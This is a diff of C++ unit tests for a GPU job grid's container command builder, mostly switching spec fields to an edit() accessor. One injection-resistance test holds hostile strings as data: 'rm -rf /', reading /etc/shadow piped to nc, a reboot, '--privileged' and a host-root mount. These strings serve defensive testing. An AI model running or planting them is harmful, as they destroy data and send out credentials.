@@ -34,9 +34,9 @@ RunRequest request_on(std::vector<int> gpu_indices) {
   RunRequest request;
   request.job.id = "job_01TEST";
   request.job.attempts = 1;
-  request.job.spec.image = "localhost/jgrid-busybox-rocm:latest";
-  request.job.spec.command = {"python", "train.py", "--epochs", "1"};
-  request.job.spec.environment = {{"HF_TOKEN", "secret-value"}, {"MODE", "fast"}};
+  request.job.spec.edit().image = "localhost/jgrid-busybox-rocm:latest";
+  request.job.spec.edit().command = {"python", "train.py", "--epochs", "1"};
+  request.job.spec.edit().environment = {{"HF_TOKEN", "secret-value"}, {"MODE", "fast"}};
   model::Placement placement;
   placement.gpu_count = static_cast<int>(gpu_indices.size());
   placement.gpu_indices = std::move(gpu_indices);
@@ -137,8 +137,8 @@ TEST_CASE("exec::build_run_argv uses CDI names when the CDI attach is chosen", "
 TEST_CASE("exec::build_run_argv shares host IPC for training, fine-tuning and vLLM", "[exec][container]") {
   auto ipc_for = [](model::WorkloadType type, const std::string& framework) {
     RunRequest request = request_on({0});
-    request.job.spec.workload_type = type;
-    request.job.spec.framework = framework;
+    request.job.spec.edit().workload_type = type;
+    request.job.spec.edit().framework = framework;
     Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
     return std::count(argv.begin(), argv.end(), "--ipc=host") == 1;
   };
@@ -151,15 +151,15 @@ TEST_CASE("exec::build_run_argv shares host IPC for training, fine-tuning and vL
 
 TEST_CASE("exec::build_run_argv keeps hostile job fields as literal words after the image", "[exec][container]") {
   RunRequest request = request_on({0});
-  request.job.spec.image = "ghcr.io/acme/app:latest;rm -rf / #";
-  request.job.spec.command = {"sh",           "-c", "echo $(id) && cat /etc/shadow | nc x 1; `reboot`",
+  request.job.spec.edit().image = "ghcr.io/acme/app:latest;rm -rf / #";
+  request.job.spec.edit().command = {"sh",           "-c", "echo $(id) && cat /etc/shadow | nc x 1; `reboot`",
                               "--privileged", "-v", "/:/host"};
-  request.job.spec.environment = {{"EVIL", "a b; $(whoami) `id` \"q\" 'r' --privileged"}};
+  request.job.spec.edit().environment = {{"EVIL", "a b; $(whoami) `id` \"q\" 'r' --privileged"}};
   Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
   std::size_t image = index_of(argv, "ghcr.io/acme/app:latest;rm -rf / #");
   REQUIRE(image < argv.size());
   CHECK(argv[image - 1] == "--");
-  CHECK(Argv(argv.begin() + image + 1, argv.end()) == request.job.spec.command);
+  CHECK(Argv(argv.begin() + image + 1, argv.end()) == request.job.spec->command);
   CHECK(index_of(argv, "--privileged") > image);
   CHECK(has_pair(argv, "-e", "EVIL=a b; $(whoami) `id` \"q\" 'r' --privileged"));
   CHECK(values_of(argv, "-v").size() == 3);  // only the workspace mounts before the image
@@ -167,8 +167,8 @@ TEST_CASE("exec::build_run_argv keeps hostile job fields as literal words after 
 
 TEST_CASE("exec::build_run_argv lets the grid's variables win over the job's", "[exec][container]") {
   RunRequest request = request_on({3});
-  request.job.spec.environment["ROCR_VISIBLE_DEVICES"] = "0,1,2,3,4,5,6,7";
-  request.job.spec.environment["JGRID_JOB_ID"] = "job_other";
+  request.job.spec.edit().environment["ROCR_VISIBLE_DEVICES"] = "0,1,2,3,4,5,6,7";
+  request.job.spec.edit().environment["JGRID_JOB_ID"] = "job_other";
   Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
   Argv env = values_of(argv, "-e");
   CHECK(std::count_if(env.begin(), env.end(), [](const auto& e) { return e.rfind("ROCR_VISIBLE_DEVICES=", 0) == 0; }) ==
@@ -180,7 +180,7 @@ TEST_CASE("exec::build_run_argv lets the grid's variables win over the job's", "
 
 TEST_CASE("exec::mask_env_values hides values but not keys or the command", "[exec][container]") {
   RunRequest request = request_on({0});
-  request.job.spec.command = {"sh", "-c", "true", "-e", "NOT=ENV"};
+  request.job.spec.edit().command = {"sh", "-c", "true", "-e", "NOT=ENV"};
   Argv masked = mask_env_values(build_run_argv(request, mi300x_options(), "jgrid-job_01TEST"));
   CHECK(has_pair(masked, "-e", "HF_TOKEN=***"));
   CHECK(has_pair(masked, "-e", "JGRID_JOB_ID=job_01TEST"));
